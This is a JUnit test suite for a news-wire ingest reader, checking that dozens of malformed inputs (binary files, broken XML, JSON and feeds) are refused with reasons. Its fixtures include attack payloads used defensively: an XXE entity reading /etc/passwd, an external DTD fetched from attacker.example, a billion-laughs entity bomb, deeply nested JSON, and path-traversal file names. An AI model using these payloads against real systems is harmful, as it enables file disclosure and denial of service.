package io.copydesk.ingest;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.copydesk.contract.CopydeskConfig;
import io.copydesk.contract.Sha256;
import io.copydesk.contract.Topics;
import io.copydesk.schema.PubStatus;
import io.copydesk.schema.RawArticle;
import io.copydesk.schema.RejectedInput;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.function.Supplier;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Acceptance criterion of the ingest issue: at least 30 kinds of malformed input are rejected with
 * reasons while everything else still flows. Every input is generated here, so the suite commits no
 * large or binary files, and goes through {@link ArticleReader} exactly as a file from the drop
 * folder does. Inputs that look broken but are handled (legacy encodings, a feed with one bad item)
 * are in their own tests below, asserting what is read.
 */
class MalformedInputTest {
  /** Big enough for the 10,000-item feed, so that feed is refused for its items, not its size. */
  private static final int LIMIT = 4 << 20;

  private static final String G2 = "http://iptc.org/std/nar/2006-10-01/";
  private static final Topics TOPICS = Topics.from(CopydeskConfig.defaults());

  private final ArticleReader reader = new ArticleReader(LIMIT);

  /**
   * One kind of malformed input: what it is, the code it must be refused with, and how to make it.
   */
  private static Arguments kind(String what, String code, Supplier<byte[]> bytes) {
    return Arguments.of(what, code, bytes);
  }

  private static Arguments kind(String what, String code, String text) {
    return kind(what, code, () -> utf8(text));
  }

  static Stream<Arguments> malformedInputs() {
    return Stream.of(
        // --- nothing to read ---
        kind("empty file", "EMPTY", () -> new byte[0]),
        kind("spaces only", "EMPTY", "      "),
        kind("only newlines and tabs", "EMPTY", "\n\n\t\t\r\n\t\n"),
        kind("a byte order mark and nothing else", "EMPTY", "\uFEFF \n"),

        // --- not text ---
        kind("PNG image", "BINARY", MalformedInputTest::png),
        kind("ZIP archive of a story", "BINARY", () -> zip("story.txt", story())),
        kind("gzip-compressed story", "BINARY", () -> gzip(story())),
        kind(
            "NUL bytes inside the copy",
            "BINARY",
            "Quake hits coast\nA quake\0\0 hit the coast on Monday."),
        kind(
            "heavy control characters",
            "BINARY",
            "Quake hits coast\n" + "A quake\u0001 hit\u0002 the\u0003 coast.\u0007 ".repeat(20)),
        // Without a BOM the bytes are valid UTF-8 with a NUL beside every letter: binary, not
        // half-read copy.
        kind("UTF-16 without a BOM", "BINARY", () -> story().getBytes(StandardCharsets.UTF_16LE)),
        // Good copy, just too much of it: the limit is on bytes, before anything is decoded.
        kind(
            "over the size limit",
            "TOO_LARGE",
            () -> utf8(story() + "\n" + "More copy. ".repeat(LIMIT / 11 + 1))),

        // --- plain text with no article in it ---
        kind("a byline with no body", "NO_BODY", "By Jane Smith\n"),
        kind(
            "a headline and byline with no body", "NO_BODY", "Quake hits coast\nBy Jane Smith\n\n"),
        kind("only page furniture", "NO_BODY", "Share:\n\nLoad More"),
        kind(
            "only image markup",
            "NO_BODY",
            "![Rescue teams](https://img.example/quake.jpg)\n<img src=\"quake.jpg\">\n"
                + "https://cdn.example/quake-2.png\nPhoto: AP/Jane Smith"),
        kind("only end-of-copy markers and rules", "NO_BODY", "-30-\n###\n{eoa}\n*****"),
        kind(
            "only agency credit lines",
            "NO_BODY",
            "Reporting by Ann Lee in Oslo\nEditing by Bob Ray"),

        // --- hostile XML: a DOCTYPE is refused before anything is expanded or fetched ---
        kind(
            "XML with a harmless DOCTYPE",
            "XML_DTD_REFUSED",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE newsItem>\n"
                + g2Item("urn:x:doctype", "", nitf("Text."))),
        kind(
            "XXE: an external entity reading /etc/passwd",
            "XML_DTD_REFUSED",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE newsItem [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
                + g2Item("urn:x:xxe", "", nitf("&xxe;"))),
        kind(
            "an external DTD fetched over the network",
            "XML_DTD_REFUSED",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE rss SYSTEM \"http://attacker.example/evil.dtd\">\n"
                + rss(rssItem(1))),
        kind("billion laughs", "XML_DTD_REFUSED", MalformedInputTest::billionLaughs),

        // --- NewsML-G2 ---
        kind(
            "truncated NewsML-G2",
            "MALFORMED_XML",
            () -> {
              String item =
                  g2Item("urn:x:cut", "", nitf("Dock workers walked out on Tuesday over pay."));
              return utf8(item.substring(0, item.indexOf("walked")));
            }),
        kind(
            "NewsML-G2 with crossed tags",
            "MALFORMED_XML",
            g2Item("urn:x:crossed", "", nitf("Dock <b>workers</p> walk out</b>"))),
        kind(
            "NewsML-G2 without a body",
            "NO_BODY",
            g2Item("urn:x:nobody", "<itemClass qcode='ninat:text'/>", "")),
        kind(
            "NewsML-G2 picture item",
            "NO_BODY",
            g2Item(
                "urn:x:pic",
                "<itemClass qcode='ninat:picture'/>",
                "<remoteContent href='https://img.example/1.jpg' contenttype='image/jpeg'/>")),
        kind(
            "NewsML-G2 with an unknown pubStatus",
            "UNKNOWN_PUBSTATUS",
            g2Item("urn:x:draft", "<pubStatus qcode='stat:draft'/>", nitf("Text."))),
        kind(
            "NewsML-G2 with a bad version",
            "BAD_VERSION",
            g2Item("urn:x:v", "", nitf("Text.")).replace("guid=", "version='two' guid=")),
        kind(
            "NewsML-G2 newsMessage with no text item",
            "NO_BODY",
            "<newsMessage xmlns='"
                + G2
                + "'><header/><itemSet>"
                + g2Item("urn:x:p", "<itemClass qcode='ninat:picture'/>", "")
                + "<packageItem guid='urn:x:pkg'/></itemSet></newsMessage>"),

        // --- XML of no format we read ---
        kind(
            "unsupported XML root (SVG)",
            "UNSUPPORTED_XML",
            "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><text x='0' y='5'>Quake hits coast</text></svg>"),
        kind(
            "a saved web page",
            "UNSUPPORTED_XML",
            "<html><head><meta charset=utf-8><title>Quake hits coast</title></head><body><p>A quake hit the coast.</p></body></html>"),
        kind(
            "only an XML declaration",
            "MALFORMED_XML",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"),

        // --- feeds ---
        kind("RSS with no items", "NO_BODY", rss("")),
        kind(
            "RSS whose items have no text",
            "NO_BODY",
            rss(
                "<item><title>Only a title</title><link>https://t.example/1</link></item><item><guid>t-2</guid></item>")),
        kind(
            "RSS with 10,000 items",
            "TOO_MANY_ITEMS",
            () -> {
              StringBuilder items = new StringBuilder();
              for (int i = 1; i <= 10_000; i++) {
                items.append(rssItem(i));
              }
              return utf8(rss(items.toString()));
            }),
        kind(
            "truncated RSS",
            "MALFORMED_XML",
            () -> {
              String feed = rss(rssItem(1) + rssItem(2));
              return utf8(feed.substring(0, feed.indexOf("Paragraph of item 2")));
            }),
        // Rome cannot convert these; its own exceptions must become a reason, not escape.
        kind(
            "RSS without a channel",
            "UNSUPPORTED_XML",
            "<?xml version='1.0'?><rss version='2.0'></rss>"),
        kind(
            "Atom 0.3 with broken base64 content",
            "UNSUPPORTED_XML",
            "<feed xmlns='http://purl.org/atom/ns#' version='0.3'>"
                + "<title>T</title><entry><title>E</title><content mode='base64'>!!!</content></entry></feed>"),
        kind(
            "Atom feed with no entries",
            "NO_BODY",
            "<feed xmlns='http://www.w3.org/2005/Atom'><title>T</title><id>urn:x</id><updated>2024-05-14T00:00:00Z</updated></feed>"),

        // --- JSON ---
        kind(
            "malformed JSON",
            "MALFORMED_JSON",
            "{\"uri\": \"urn:x:1\",\n \"headline\": \"Quake hits coast\",, \"body_text\": \"Text.\"}"),
        kind(
            "ninjs with the uri twice",
            "MALFORMED_JSON",
            "{\"uri\": \"urn:x:1\", \"uri\": \"urn:x:2\", \"body_text\": \"Text.\"}"),
        kind(
            "two ninjs items in one file",
            "MALFORMED_JSON",
            "{\"uri\": \"urn:x:1\", \"body_text\": \"One.\"}\n{\"uri\": \"urn:x:2\", \"body_text\": \"Two.\"}"),
        kind(
            "a JSON array of items",
            "UNSUPPORTED_JSON",
            "[{\"uri\": \"urn:x:1\", \"body_text\": \"Text.\"}]"),
        // Never parsed: a top-level array is not an item, whatever its depth.
        kind(
            "100,000 nested JSON arrays",
            "UNSUPPORTED_JSON",
            () -> utf8("[".repeat(100_000) + "]".repeat(100_000))),
        kind(
            "100,000 nested arrays inside a ninjs item",
            "JSON_LIMIT",
            () ->
                utf8(
                    "{\"uri\": \"urn:x:1\", \"body_text\": \"Text.\", \"x\": "
                        + "[".repeat(100_000)
                        + "]".repeat(100_000)
                        + "}")),
        // The nesting hides whether a uri follows: refused for the depth, before the parser or
        // validator recurses.
        kind(
            "100,000 nested JSON objects",
            "JSON_LIMIT",
            () -> utf8("{\"a\": ".repeat(100_000) + "1" + "}".repeat(100_000))),
        kind(
            "JSON object without a uri",
            "UNSUPPORTED_JSON",
            "{\"headline\": \"Quake hits coast\", \"body_text\": \"A quake hit the coast.\"}"),
        kind(
            "ninjs with wrong types",
            "INVALID_NINJS",
            "{\"uri\": \"urn:x:1\", \"headline\": 42, \"body_text\": [\"Text.\"]}"),
        kind(
            "ninjs with a blank uri",
            "INVALID_NINJS",
            "{\"uri\": \"  \", \"body_text\": \"Text.\"}"),
        kind(
            "usable ninjs with neither body nor headline",
            "NO_BODY",
            "{\"uri\": \"urn:x:1\", \"pubstatus\": \"usable\"}"),
        kind(
            "ninjs whose only body is an image",
            "NO_BODY",
            "{\"uri\": \"urn:x:1\", \"body_html\": \"<figure><img src='q.jpg'></figure>\"}"),
        kind(
            "ninjs with an unknown pubstatus",
            "INVALID_NINJS",
            "{\"uri\": \"urn:x:1\", \"pubstatus\": \"killed\", \"body_text\": \"Text.\"}"));
  }

  @ParameterizedTest(name = "{0} -> {1}")
  @MethodSource("malformedInputs")
  void isRejectedWithItsCodeAndAReason(String what, String code, Supplier<byte[]> generate) {
    byte[] bytes = generate.get();
    InputDocument input = new InputDocument(what + ".in", bytes, Instant.EPOCH);
    InputRejectedException e =
        assertThrows(InputRejectedException.class, () -> reader.read(input), what);
    assertEquals(code, e.code(), what + ": " + e.getMessage());
    assertFalse(
        e.getMessage() == null || e.getMessage().isBlank(),
        what + ": a reason a person can act on");
    assertFalse(
        e.getMessage().contains("root:"), "nothing read through an entity ends up in the reason");

    // The reject record that goes to Kafka carries the same code and reason, the input's name and
    // at most the payload bound.
    RejectedInput reject = roundTrip(Rejects.of(input, e, 1024));
    assertEquals(code, reject.getCode());
    assertEquals(e.getMessage(), reject.getReason());
    assertEquals(what + ".in", reject.getSource().getFile());
    assertEquals(bytes.length, reject.getPayloadSize());
    assertEquals(Sha256.hex(bytes), reject.getPayloadSha256());
    assertArrayEquals(Arrays.copyOf(bytes, Math.min(bytes.length, 1024)), bytes(reject));
  }

  @Test
  void thereAreAtLeastThirtyDistinctKinds() {
    List<Arguments> kinds = malformedInputs().toList();
    assertTrue(kinds.size() >= 30, kinds.size() + " kinds");
    Set<String> names = new HashSet<>();
    Set<String> contents = new HashSet<>();
    for (Arguments kind : kinds) {
      assertTrue(names.add((String) kind.get()[0]), "named once: " + kind.get()[0]);
      @SuppressWarnings("unchecked")
      Supplier<byte[]> bytes = (Supplier<byte[]>) kind.get()[2];
      assertTrue(
          contents.add(Sha256.hex(bytes.get())),
          "no two kinds are the same bytes: " + kind.get()[0]);
    }
    Set<String> codes = new HashSet<>();
    kinds.forEach(k -> codes.add((String) k.get()[1]));
    assertTrue(codes.size() >= 12, "the kinds exercise most refusal codes: " + codes);
  }

  // --- what looks broken but is handled: read, not refused ---

  @Test
  void invalidUtf8IsReadAsWindows1252() throws Exception {
    // Curly quotes, an accent and a dash from a legacy newsroom system: not valid UTF-8.
    String copy =
        "Café owners protest\n\u201CWe will not close,\u201D said the owner \u2013 again.";
    byte[] cp1252 = copy.getBytes(Charset.forName("windows-1252"));
    RawArticle article = only(reader.read(new InputDocument("legacy.txt", cp1252, Instant.EPOCH)));
    assertEquals("Café owners protest", article.getHeadline());
    assertEquals("\u201CWe will not close,\u201D said the owner \u2013 again.", article.getBody());
  }

  @Test
  void utf16WithAByteOrderMarkIsRead() throws Exception {
    for (Charset utf16 : List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)) {
      byte[] bytes = ("\uFEFF" + story()).getBytes(utf16);
      RawArticle article = only(reader.read(new InputDocument("utf16.txt", bytes, Instant.EPOCH)));
      assertEquals("Quake hits coast", article.getHeadline(), utf16.name());
      assertEquals(
          "A quake hit the coast on Monday, the agency said.\n\nNo one was hurt.",
          article.getBody(),
          utf16.name());
    }
  }

  @Test
  void oldMacAndWindowsLineEndingsAreParagraphBreaks() throws Exception {
    for (String eol : List.of("\r", "\r\n")) {
      RawArticle article =
          only(
              reader.read(
                  new InputDocument("eol.txt", utf8(story().replace("\n", eol)), Instant.EPOCH)));
      assertEquals("Quake hits coast", article.getHeadline());
      assertEquals(
          "A quake hit the coast on Monday, the agency said.\n\nNo one was hurt.",
          article.getBody());
    }
  }

  /**
   * A teaser item whose only text is "Read more" is furniture, like an item with no text at all: it
   * is skipped, and the feed's real stories still flow.
   */
  @Test
  void aFeedItemOfOnlyFurnitureIsSkippedAndTheOthersFlow() throws Exception {
    String feed =
        rss(
            rssItem(1)
                + "<item><title>Teaser</title><guid>teaser</guid><description>Read more</description></item>"
                + rssItem(2));
    List<RawArticle> articles =
        reader.read(new InputDocument("feed.xml", utf8(feed), Instant.EPOCH));
    assertEquals(List.of("bulk-1", "bulk-2"), articles.stream().map(RawArticle::getId).toList());
    assertEquals("Paragraph of item 2.", articles.get(1).getBody());
  }

  @Test
  void aBadItemInANewsMessageIsSkippedAndTheOthersFlow() throws Exception {
    String message =
        "<newsMessage xmlns='"
            + G2
            + "'><header/><itemSet>"
            + g2Item("urn:x:draft", "<pubStatus qcode='stat:draft'/>", nitf("Held back."))
            + g2Item("urn:x:good", "", nitf("Dock workers walked out on Tuesday over pay."))
            + g2Item("urn:x:v", "", nitf("Text.")).replace("guid=", "version='two' guid=")
            + "</itemSet></newsMessage>";
    RawArticle article =
        only(reader.read(new InputDocument("message.xml", utf8(message), Instant.EPOCH)));
    assertEquals("urn:x:good", article.getId());
    assertEquals("Dock workers walked out on Tuesday over pay.", article.getBody());
  }

  @Test
  void aKillNeedsNoBody() throws Exception {
    byte[] kill = utf8("{\"uri\": \"urn:x:1\", \"version\": \"3\", \"pubstatus\": \"canceled\"}");
    RawArticle article = only(reader.read(new InputDocument("kill.json", kill, Instant.EPOCH)));
    assertEquals(PubStatus.canceled, article.getPubstatus());
    assertEquals("", article.getBody());
  }

  // --- input names from outside: carried as given, never interpreted ---

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/absolute/story.txt",
        "nul\u0000byte.txt",
        "line\r\nbreak.txt",
        "\u001b[31mred\u001b[0m.txt",
        "tab\there.txt",
        "\u202Etxt.exe"
      })
  void oddInputNamesAreCarriedAsGiven(String name) throws Exception {
    InputDocument refused = new InputDocument(name, new byte[0], Instant.EPOCH);
    InputRejectedException e =
        assertThrows(InputRejectedException.class, () -> reader.read(refused));
    assertEquals("EMPTY", e.code());
    assertEquals(name, roundTrip(Rejects.of(refused, e, 1024)).getSource().getFile());

    RawArticle article = only(reader.read(new InputDocument(name, utf8(story()), Instant.EPOCH)));
    assertEquals(name, article.getSource().getFile());
    assertEquals("Quake hits coast", article.getHeadline());
    // The name is provenance only: the story id comes from the text, so it is the same under any
    // name.
    assertEquals(
        only(reader.read(new InputDocument("plain.txt", utf8(story()), Instant.EPOCH))).getId(),
        article.getId());
  }

  // --- helpers ---

  private static RawArticle only(List<RawArticle> articles) {
    assertEquals(1, articles.size());
    return articles.get(0);
  }

  /** Through the rejects topic's serde, as a consumer of that topic sees it. */
  private static RejectedInput roundTrip(RejectedInput reject) {
    String topic = TOPICS.rejects().name();
    byte[] wire = TOPICS.rejects().valueSerde().serializer().serialize(topic, reject);
    return TOPICS.rejects().valueSerde().deserializer().deserialize(topic, wire);
  }

  private static byte[] bytes(RejectedInput reject) {
    byte[] payload = new byte[reject.getPayload().remaining()];
    reject.getPayload().duplicate().get(payload);
    return payload;
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  /** Good plain-text copy: a headline and two paragraphs. */
  private static String story() {
    return "Quake hits coast\nA quake hit the coast on Monday, the agency said.\nNo one was hurt.";
  }

  private static byte[] png() {
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      ImageIO.write(new BufferedImage(8, 8, BufferedImage.TYPE_INT_RGB), "png", out);
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] zip(String entry, String text) {
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      try (ZipOutputStream zip = new ZipOutputStream(out)) {
        zip.putNextEntry(new ZipEntry(entry));
        zip.write(utf8(text));
        zip.closeEntry();
      }
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] gzip(String text) {
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
        gz.write(utf8(text));
      }
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** Nine levels of ten: a billion "lol"s if anything expanded them. */
  private static byte[] billionLaughs() {
    StringBuilder dtd =
        new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol0 \"lol\">\n");
    for (int level = 1; level <= 9; level++) {
      dtd.append(" <!ENTITY lol")
          .append(level)
          .append(" \"")
          .append(("&lol" + (level - 1) + ";").repeat(10))
          .append("\">\n");
    }
    return utf8(
        dtd.append(
                "]>\n<rss version=\"2.0\"><channel><item><description>&lol9;</description></item></channel></rss>")
            .toString());
  }

  /** A NewsML-G2 newsItem with the given itemMeta and contentSet content. */
  private static String g2Item(String guid, String itemMeta, String contentSet) {
    return "<newsItem xmlns='"
        + G2
        + "' guid='"
        + guid
        + "' standard='NewsML-G2' standardversion='2.35'>"
        + "<itemMeta>"
        + itemMeta
        + "</itemMeta><contentSet>"
        + contentSet
        + "</contentSet></newsItem>";
  }

  private static String nitf(String paragraph) {
    return "<inlineXML contenttype='application/nitf+xml'><nitf><body><body.content><p>"
        + paragraph
        + "</p></body.content></body></nitf></inlineXML>";
  }

  private static String rss(String items) {
    return "<rss version='2.0'><channel><title>Wire</title><link>https://wire.example/</link>"
        + "<description>Test feed</description>"
        + items
        + "</channel></rss>";
  }

  private static String rssItem(int n) {
    return "<item><title>Item "
        + n
        + "</title><guid>bulk-"
        + n
        + "</guid><description>&lt;p&gt;Paragraph of item "
        + n
        + ".&lt;/p&gt;</description></item>";
  }
}
